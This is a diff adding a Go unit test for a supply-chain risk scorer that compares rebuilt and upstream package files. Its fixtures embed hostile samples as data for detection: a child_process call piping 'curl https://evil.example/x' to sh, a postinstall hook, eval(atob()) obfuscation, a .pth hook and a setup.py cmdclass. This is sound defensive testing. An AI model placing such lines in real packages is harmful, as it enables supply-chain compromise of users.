@@ -0,0 +1,101 @@
+// Copyright 2024 The OSS Rebuild Authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package rebuild
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestScoreRisk(t *testing.T) {
+	for _, tc := range []struct {
+		name      string
+		rb, up    map[string][]byte
+		wantScore int
+		want      []RiskEvidence
+	}{
+		{
+			name:      "timestamp noise",
+			rb:        map[string][]byte{"package/lib/version.js": []byte("module.exports = '2024-01-01';\n")},
+			up:        map[string][]byte{"package/lib/version.js": []byte("module.exports = '2024-01-02';\n")},
+			wantScore: 0,
+			want:      []RiskEvidence{},
+		},
+		{
+			name: "existing behavior is not counted",
+			rb:   map[string][]byte{"package/index.js": []byte("const https = require('https');\nhttps.get('https://registry.npmjs.org');\n// v1\n")},
+			up:   map[string][]byte{"package/index.js": []byte("const https = require('https');\nhttps.get('https://registry.npmjs.org');\n// v2\n")},
+			want: []RiskEvidence{},
+		},
+		{
+			name: "injected network and exec",
+			rb:   map[string][]byte{"package/index.js": []byte("module.exports = 1;\n")},
+			up: map[string][]byte{"package/index.js": []byte(
+				"require('child_process').execSync('curl https://evil.example/x | sh');\nmodule.exports = 1;\n")},
+			wantScore: 40,
+			want: []RiskEvidence{
+				{Path: "package/index.js", Indicator: IndicatorNetwork, Detail: "https://evil.example/x"},
+				{Path: "package/index.js", Indicator: IndicatorProcessExec, Detail: "child_process"},
+			},
+		},
+		{
+			name: "install hook and obfuscation",
+			rb:   map[string][]byte{"package/package.json": []byte(`{"name":"x","scripts":{"test":"jest"}}`)},
+			up: map[string][]byte{
+				"package/package.json": []byte(`{"name":"x","scripts":{"test":"jest","postinstall":"node p.js"}}`),
+				"package/p.js":         []byte("eval(atob('ZG9jdW1lbnQ='));\n"),
+			},
+			wantScore: 65,
+			want: []RiskEvidence{
+				{Path: "package/p.js", Indicator: IndicatorObfuscation, Detail: "eval("},
+				{Path: "package/p.js", Indicator: IndicatorObfuscation, Detail: "atob("},
+				{Path: "package/package.json", Indicator: IndicatorInstallHook, Detail: "scripts.postinstall"},
+			},
+		},
+		{
+			name: "binary blob and pth",
+			rb:   map[string][]byte{},
+			up: map[string][]byte{
+				"pkg/payload.bin": {0x7f, 'E', 'L', 'F', 0, 0, 1},
+				"pkg/hook.pth":    []byte("import os\n"),
+			},
+			wantScore: 65,
+			want: []RiskEvidence{
+				{Path: "pkg/hook.pth", Indicator: IndicatorInstallHook, Detail: "hook.pth absent from rebuild"},
+				{Path: "pkg/payload.bin", Indicator: IndicatorBinaryBlob, Detail: "binary content absent from rebuild"},
+			},
+		},
+		{
+			name:      "setup.py cmdclass",
+			rb:        map[string][]byte{"pkg-1.0/setup.py": []byte("setup(name='pkg')\n")},
+			up:        map[string][]byte{"pkg-1.0/setup.py": []byte("setup(name='pkg', cmdclass={'install': Evil})\n")},
+			wantScore: 35,
+			want: []RiskEvidence{
+				{Path: "pkg-1.0/setup.py", Indicator: IndicatorInstallHook, Detail: "cmdclass="},
+			},
+		},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := ScoreRisk(tc.rb, tc.up)
+			if got.Score != tc.wantScore {
+				t.Errorf("ScoreRisk().Score = %d, want %d", got.Score, tc.wantScore)
+			}
+			if diff := cmp.Diff(tc.want, got.Evidence); diff != "" {
+				t.Errorf("ScoreRisk().Evidence mismatch (-want +got):\n%s", diff)
+			}
+		})
+	}
+}